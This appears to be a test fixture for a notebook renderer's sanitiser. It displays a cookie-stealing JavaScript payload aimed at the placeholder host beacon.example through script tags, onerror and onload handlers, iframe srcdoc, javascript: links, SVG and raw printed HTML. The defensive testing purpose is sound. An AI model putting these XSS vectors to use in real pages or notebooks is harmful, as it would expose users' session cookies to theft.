# Shows HTML, SVG and JavaScript with scripts, and links that are scripts.
# row: script in HTML, SVG, Markdown, JavaScript links, remote images (beacons), terminal escapes, template syntax, CSV formulas
# outcome: I
# sees: <script>

# %% own
from IPython.display import HTML, SVG, Javascript, Markdown, display

evil = "document.title = 'ran'; new Image().src = 'http://beacon.example/' + document.cookie"
display(HTML(f"<script>{evil}</script><img src=x onerror=\"{evil}\"><iframe srcdoc='<script>{evil}</script>'></iframe>"))
display(HTML(f"<a href=\"javascript:{evil}\">click</a><form action=http://beacon.example/><input autofocus onfocus=\"{evil}\"></form>"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{evil}\"><script>{evil}</script></svg>"))
display(Javascript(evil))
display(Markdown(f"[click](javascript:{evil}) <img src=http://beacon.example/pixel.png onerror='{evil}'>"))
display({"text/html": f"<script>{evil}</script>", "text/plain": f"<script>{evil}</script>"}, raw=True)
print(f"</pre></details></article><script>{evil}</script><img src=x onerror=\"{evil}\">")
# </pre></article><script>document.title = 'ran'</script>
